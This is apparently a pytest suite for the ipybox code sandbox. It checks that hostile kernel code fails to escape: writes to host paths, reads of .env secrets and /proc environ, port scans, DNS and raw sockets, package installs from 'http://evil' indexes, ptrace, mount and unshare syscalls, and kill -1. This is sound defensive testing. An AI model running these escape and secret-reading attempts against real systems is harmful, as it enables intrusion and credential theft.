"""Code actions that try to leave the sandbox: files, secrets, network, other sessions, the kernel's powers.

Each case asserts that the attempt fails (or stays inside the sandbox) *and* that the executor keeps
working afterwards. Cases already covered elsewhere are listed in SECURITY.md, not repeated here.
"""

from __future__ import annotations

import json
import os
import platform
import secrets
import socket
import subprocess
import sys
from collections.abc import AsyncGenerator, Generator
from pathlib import Path

import anyio
import pytest

from ipybox import CodeExecutor, KernelDied

from .conftest import listening_loopback_ports, loopback_listener, run

pytestmark = pytest.mark.anyio

# Kernel death plus a fresh kernel's start; generous for a loaded 2-core machine.
KILL_ALL_DEADLINE = 60.0


async def still_works(executor: CodeExecutor) -> None:
    result = await run(executor, "print(6 * 7)")
    assert result.text == "42\n"


@pytest.fixture(scope="module")
async def executor(module_workspace: Path, tools_dir: Path) -> AsyncGenerator[CodeExecutor]:
    async with CodeExecutor(workspace=module_workspace, tools_dir=tools_dir, approval="auto") as ex:
        yield ex


@pytest.fixture
def host_sleeper() -> Generator[subprocess.Popen[bytes]]:
    """A host process the kernel will try to signal, trace and read."""
    process = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.read()"], stdin=subprocess.PIPE)
    try:
        yield process
    finally:
        process.kill()
        process.wait()
        assert process.stdin is not None
        process.stdin.close()


# -- files -------------------------------------------------------------------------------------


def write_attempt(path: str) -> str:
    """Kernel code that tries every way to create ``path`` and prints what happened."""
    return (
        "import os, shutil\n"
        f"target = {path!r}\n"
        "outcomes = []\n"
        "for how in ('open', 'mkdir-parent', 'rename'):\n"
        "    try:\n"
        "        if how == 'open':\n"
        "            open(target, 'w').write('pwned')\n"
        "        elif how == 'mkdir-parent':\n"
        "            os.makedirs(os.path.dirname(target), exist_ok=True); open(target, 'w').write('pwned')\n"
        "        else:\n"
        "            open('staged', 'w').write('pwned'); shutil.move('staged', target)\n"
        "        outcomes.append(how + ':wrote-inside-sandbox')\n"
        "    except OSError as e:\n"
        "        outcomes.append(how + ':' + type(e).__name__)\n"
        "print(outcomes)\n"
    )


async def test_writes_aimed_at_the_venv_the_tools_the_host_tmp_and_dev_shm_never_reach_the_host(
    executor: CodeExecutor, tools_dir: Path, tmp_path: Path
) -> None:
    name = f"ipybox-hostile-{secrets.token_hex(4)}"
    targets = [
        Path(sys.prefix) / "lib" / name,
        Path(sys.prefix) / f"{name}.pth",
        tools_dir / "test" / f"{name}.py",
        tools_dir / f"{name}.py",
        tmp_path / name,
        Path("/tmp") / name,
        Path("/dev/shm") / name,
        Path.home() / name,
        Path("/etc") / name,
    ]
    for target in targets:
        result = await run(executor, write_attempt(str(target)))
        assert not target.exists(), f"the kernel wrote {target} on the host: {result.text}"
    await still_works(executor)


async def test_the_kernel_cannot_plant_files_in_the_executors_private_host_directory(executor: CodeExecutor) -> None:
    assert executor._side.home is not None
    packages = executor._side.home / "packages"
    result = await run(executor, write_attempt(str(packages / "evil.py")))
    assert not (packages / "evil.py").exists(), result.text
    result = await run(
        executor,
        "import os\n"
        "sock = os.environ['IPYBOX_TOOL_SOCKET']\n"
        "for op in (os.unlink, lambda p: os.rename(p, p + '.x')):\n"
        "    try:\n        op(sock); print('removed')\n"
        "    except OSError as e:\n        print(type(e).__name__)\n",
    )
    assert "removed" not in result.text
    # The socket survived: tool calls still work.
    result = await run(executor, "from mcptools.test import add\nprint(add.run(add.Params(a=2, b=3)).result)")
    assert result.text == "5\n"


async def test_dotenv_files_next_to_the_workspace_and_other_sessions_workspaces_are_invisible(
    executor: CodeExecutor, module_workspace: Path, tmp_path: Path
) -> None:
    secret = secrets.token_hex(16)
    dotenv = module_workspace.parent / ".env"
    dotenv.write_text(f"OPENAI_API_KEY={secret}\n")
    other = tmp_path / "other-session"
    other.mkdir()
    (other / "notes.txt").write_text(secret)
    project_env = Path.cwd() / ".env"
    code = (
        "import glob, os\n"
        f"paths = [{str(dotenv)!r}, {str(other / 'notes.txt')!r}, {str(project_env)!r}, '../.env', '/root/.env']\n"
        "paths += glob.glob('/tmp/**/*', recursive=True)\n"
        "found = []\n"
        "for p in paths:\n"
        # Bytes: the glob also finds binary files other tests left in this module's workspace.
        "    try:\n        found.append(open(p, 'rb').read().decode(errors='replace'))\n"
        "    except OSError:\n        pass\n"
        "print('\\n'.join(found))\n"
    )
    try:
        result = await run(executor, code)
        assert secret not in result.text
        # An executor that does work with the other workspace does not open it to this one.
        async with CodeExecutor(workspace=other, tools_dir=None) as neighbour:
            assert (await run(neighbour, "print(open('notes.txt').read())")).text == secret + "\n"
            result = await run(executor, code)
            assert secret not in result.text
    finally:
        dotenv.unlink()
    await still_works(executor)


# -- network -----------------------------------------------------------------------------------


# The ports the kernel's own network namespace listens on (the egress forwarder's, for one): a host
# port with the same number is reached there, inside the sandbox, and says nothing about the host.
_OWN_PORTS = (
    "ports = set()\n"
    "for table in ('/proc/net/tcp', '/proc/net/tcp6'):\n"
    "    for line in open(table).read().splitlines()[1:]:\n"
    "        fields = line.split()\n"
    "        if fields[3] == '0A':\n"
    "            ports.add(int(fields[1].rsplit(':', 1)[1], 16))\n"
    "print(sorted(ports))\n"
)


async def test_every_port_the_host_listens_on_is_unreachable_from_the_kernel(executor: CodeExecutor) -> None:
    own = set(json.loads((await run(executor, _OWN_PORTS)).text or "null"))
    listener = loopback_listener()
    while listener.getsockname()[1] in own:  # one port, at least, that only the host has
        listener.close()
        listener = loopback_listener()
    listener.setblocking(False)
    try:
        ports = [port for port in listening_loopback_ports() if port not in own]
        assert listener.getsockname()[1] in ports
        code = (
            "import socket\n"
            f"ports = {ports!r}\n"
            "reached = []\n"
            "for port in ports:\n"
            "    for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):\n"
            "        s = socket.socket(family, socket.SOCK_STREAM)\n"
            "        s.settimeout(2)\n"
            "        try:\n            s.connect((host, port)); reached.append((host, port))\n"
            "        except OSError:\n            pass\n"
            "        finally:\n            s.close()\n"
            "print('reached', reached)\n"
        )
        result = await run(executor, code)
        assert result.text == "reached []\n"
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    await still_works(executor)


async def test_an_abstract_unix_socket_on_the_host_is_unreachable(executor: CodeExecutor) -> None:
    name = f"\0ipybox-hostile-{secrets.token_hex(4)}"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(name)
    listener.listen()
    listener.setblocking(False)
    try:
        code = (
            "import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            f"try:\n    s.connect({name!r}); print('connected')\n"
            "except OSError as e:\n    print(type(e).__name__)\n"
        )
        result = await run(executor, code)
        assert result.text == "ConnectionRefusedError\n"
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


async def test_udp_raw_packet_sockets_and_dns_to_the_internet_all_fail(executor: CodeExecutor) -> None:
    code = (
        "import socket\n"
        "def attempt(label, fn):\n"
        "    try:\n        fn(); print(label, 'ok')\n"
        "    except OSError as e:\n        print(label, type(e).__name__)\n"
        "def udp():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('1.1.1.1', 53))\n"
        "def udp6():\n"
        "    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('2606:4700:4700::1111', 53))\n"
        "def tcp():\n"
        "    socket.create_connection(('1.1.1.1', 443), timeout=3)\n"
        "def raw():\n"
        "    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
        "def packet():\n"
        "    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n"
        "def dns():\n"
        "    socket.getaddrinfo('pypi.org', 443)\n"
        "for fn in (udp, udp6, tcp, raw, packet, dns):\n"
        "    attempt(fn.__name__, fn)\n"
    )
    result = await run(executor, code)
    lines = result.text.splitlines()
    assert len(lines) == 6
    assert not any(line.endswith(" ok") for line in lines), result.text
    await still_works(executor)


# -- the tool channel --------------------------------------------------------------------------


async def test_one_executors_kernel_cannot_reach_another_executors_tool_socket(
    executor: CodeExecutor, tmp_path: Path
) -> None:
    assert executor._side.home is not None
    theirs = executor._side.home / "tools.sock"
    async with CodeExecutor(workspace=tmp_path, tools_dir=None, approval="auto") as other:
        code = (
            "import socket\n"
            "s = socket.socket(socket.AF_UNIX)\n"
            f"try:\n    s.connect({str(theirs)!r}); print('connected')\n"
            "except OSError as e:\n    print(type(e).__name__)\n"
        )
        result = await run(other, code)
        assert result.text == "FileNotFoundError\n"


async def test_the_kernel_cannot_name_a_server_command_or_url_for_the_host_to_run(
    executor: CodeExecutor, tmp_path: Path
) -> None:
    marker = tmp_path / "pwned"
    code = (
        "from ipybox_kernel import call_tool, ToolCallError\n"
        f"attempts = [('sh', '-c', {{'cmd': 'touch {marker}'}}), ('../../bin/sh', 'x', {{}}),"
        " ('http://127.0.0.1:1/mcp', 'x', {}), ('ipybox', 'install_package', {'package': '--index-url=http://evil'}),"
        " ('ipybox', 'install_package', {'package': 'git+https://evil/x'}), ('ipybox', 'shell', {'cmd': 'id'})]\n"
        "for server, tool, args in attempts:\n"
        "    try:\n        call_tool(server, tool, args); print('ran')\n"
        "    except ToolCallError as e:\n        print(type(e).__name__)\n"
    )
    result = await run(executor, code)
    assert "ran" not in result.text
    assert len(result.text.splitlines()) == 6
    assert not marker.exists()
    await still_works(executor)


# -- kernel powers: namespaces, tracing, signals, raw syscalls ------------------------------

# x86_64 numbers: (label, syscall number, arguments). The seccomp filter answers each with EPERM
# before looking at the arguments; without it, the ptrace attach on the init would succeed.
SECCOMP_CASES = """
import ctypes, ctypes.util, errno, os, subprocess
libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(label, nr, *args):
    ret = libc.syscall(ctypes.c_long(nr), *[a if a is None or isinstance(a, bytes) else ctypes.c_long(a) for a in args])
    print(label, 'ok' if ret >= 0 else errno.errorcode.get(ctypes.get_errno(), '?'))
sleeper = subprocess.Popen(['sleep', '60'])
init = os.pidfd_open(1)
call('ptrace-attach-init', 101, 16, 1, 0, 0)
call('ptrace-seize-child', 101, 0x4206, sleeper.pid, 0, 0)
call('process_vm_readv-init', 310, 1, None, 0, None, 0, 0)
call('process_vm_writev-init', 311, 1, None, 0, None, 0, 0)
call('pidfd_getfd-init', 438, init, 0, 0)
call('process_madvise-init', 440, init, None, 0, 0, 0)
call('keyctl', 250, 0, -3, 0)
call('add_key', 248, b'user', b'ipybox', b'x', 1, -3)
call('request_key', 249, b'user', b'ipybox', None, 0)
call('bpf', 321, 0, None, 0)
call('perf_event_open', 298, None, 0, -1, -1, 0)
call('userfaultfd', 323, 0)
call('io_uring_setup', 425, 1, None)
call('open_by_handle_at', 304, -100, None, 0)
# PTRACE_TRACEME in a child: if it worked, the child would be traced by the kernel.
child = os.fork()
if child == 0:
    os._exit(0 if libc.syscall(ctypes.c_long(101), ctypes.c_long(0), None, None, None) == 0 else ctypes.get_errno())
status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
print('ptrace-traceme', 'ok' if status == 0 else errno.errorcode.get(status, '?'))
# The x32 ABI's getpid: refused as a whole, so its other numbers cannot slip past the list.
call('x32-getpid', 0x40000000 | 39)
call('getpid', 39)
sleeper.kill(); sleeper.wait()
def seccomp(pid):
    return [line.split()[1] for line in open(f'/proc/{pid}/status') if line.startswith('Seccomp:')][0]
print('seccomp', seccomp('self'), seccomp(1))
print('init-state', open('/proc/1/stat').read().rsplit(')', 1)[1].split()[0])
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the cases use x86_64 syscall numbers")
async def test_ptrace_its_relatives_and_risky_kernel_interfaces_are_refused_by_the_seccomp_filter(
    executor: CodeExecutor,
) -> None:
    result = await run(executor, SECCOMP_CASES)
    outcomes = dict(line.split(" ", 1) for line in result.text.splitlines())
    refused = [label for label in outcomes if label not in ("x32-getpid", "getpid", "seccomp", "init-state")]
    assert len(refused) == 15, result.text
    assert {label: outcomes[label] for label in refused} == dict.fromkeys(refused, "EPERM"), result.text
    assert outcomes["x32-getpid"] == "ENOSYS"
    assert outcomes["getpid"] == "ok"
    # The filter holds for the kernel and for bwrap's init, which kernel code could otherwise borrow.
    assert outcomes["seccomp"].split() == ["2", "2"]
    assert outcomes["init-state"] == "S"
    await still_works(executor)


SYSCALLS = """
import ctypes, ctypes.util, errno, os
libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
def call(label, fn):
    ret = fn()
    print(label, 'ok' if ret == 0 else errno.errorcode.get(ctypes.get_errno(), '?'))
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
MS_REMOUNT, MS_BIND = 32, 4096
call('mount-tmpfs', lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))
call('remount-usr-rw', lambda: libc.mount(None, b'/usr', None, MS_REMOUNT | MS_BIND, None))
call('bind-root', lambda: libc.mount(b'/', b'/tmp', None, MS_BIND, None))
call('unshare-user', lambda: libc.unshare(CLONE_NEWUSER))
call('unshare-mnt', lambda: libc.unshare(CLONE_NEWNS))
call('unshare-net', lambda: libc.unshare(CLONE_NEWNET))
call('unshare-pid', lambda: libc.unshare(CLONE_NEWPID))
fd = os.open('/proc/1/ns/mnt', os.O_RDONLY)
call('setns-mnt', lambda: libc.setns(fd, 0))
call('chroot', lambda: libc.chroot(b'/tmp'))
call('mknod-disk', lambda: libc.mknod(b'/tmp/sda', 0o60600, os.makedev(8, 0)))
call('setuid-1000', lambda: libc.setuid(1000))
call('sethostname', lambda: libc.sethostname(b'pwned', 5))
call('settimeofday', lambda: libc.settimeofday(ctypes.byref((ctypes.c_long * 2)(0, 0)), None))
call('reboot', lambda: libc.reboot(0x4321FEDC))
call('init_module', lambda: libc.syscall(175, None, 0, b''))
call('kexec_load', lambda: libc.syscall(246, 0, 0, None, 0))
call('swapoff', lambda: libc.swapoff(b'/dev/vda'))
call('ptrace-pid1', lambda: libc.ptrace(16, 1, None, None))
print('pid1-state', open('/proc/1/stat').read().rsplit(')', 1)[1].split()[0])
print('pid1-caps', [l.split()[1] for l in open('/proc/1/status') if l.startswith('CapEff')][0])
"""


async def test_mount_unshare_setns_and_privileged_syscalls_through_ctypes_all_fail(executor: CodeExecutor) -> None:
    result = await run(executor, SYSCALLS)
    lines = result.text.splitlines()
    assert len(lines) == 20, result.text
    succeeded = [line for line in lines if line.endswith(" ok")]
    assert succeeded == [], result.text
    # The sandbox's init (bwrap, same uid) was not stopped by the attempt to trace it.
    assert lines[-2] == "pid1-state S"
    assert lines[-1] == "pid1-caps 0000000000000000"
    await still_works(executor)


async def test_host_processes_cannot_be_signalled_traced_or_read(
    executor: CodeExecutor, host_sleeper: subprocess.Popen[bytes]
) -> None:
    pid = host_sleeper.pid
    code = (
        "import ctypes, ctypes.util, os, signal\n"
        "libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)\n"
        f"pid, me = {pid}, {os.getpid()}\n"
        "sandbox = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())\n"
        "print('visible', pid in sandbox or me in sandbox)\n"
        "for target in (pid, me):\n"
        "    if target in sandbox:\n        continue  # the same number names a sandbox process, not the host one\n"
        "    for label, fn in (('kill', lambda: os.kill(target, signal.SIGKILL)),\n"
        "                      ('mem', lambda: open(f'/proc/{target}/mem', 'rb').read(1)),\n"
        "                      ('environ', lambda: open(f'/proc/{target}/environ', 'rb').read())):\n"
        "        try:\n            fn(); print(label, 'ok')\n"
        "        except OSError as e:\n            print(label, type(e).__name__)\n"
        "    print('ptrace', libc.ptrace(16, target, None, None))\n"
    )
    result = await run(executor, code)
    assert "visible False" in result.text
    assert " ok" not in result.text
    assert host_sleeper.poll() is None
    await still_works(executor)


async def test_kill_minus_one_inside_the_sandbox_takes_down_only_the_kernel(
    executor: CodeExecutor, host_sleeper: subprocess.Popen[bytes]
) -> None:
    # A child of the kernel signals everything it can: inside the PID namespace that is the kernel.
    code = "import os, signal, time\nif os.fork() == 0:\n    os.kill(-1, signal.SIGKILL)\n    os._exit(0)\nos.wait()\n"
    # Bounded so that a hang fails here, not at the suite's timeout with the shared executor broken.
    with anyio.fail_after(KILL_ALL_DEADLINE):
        with pytest.raises(KernelDied):
            await executor.execute(code)
        assert host_sleeper.poll() is None
        await still_works(executor)


async def test_a_root_only_secret_elsewhere_in_etc_is_unreadable(executor: CodeExecutor) -> None:
    secret = secrets.token_hex(16)
    planted = Path("/etc") / f"ipybox-hostile-{secrets.token_hex(4)}.key"
    try:
        planted.write_text(secret)
    except PermissionError:
        pytest.skip("planting a root-only file in /etc needs root")
    try:
        planted.chmod(0o600)
        result = await run(
            executor, f"try:\n    print(open({str(planted)!r}).read())\nexcept OSError as e:\n    print(e)"
        )
    finally:
        planted.unlink()
    assert secret not in result.text
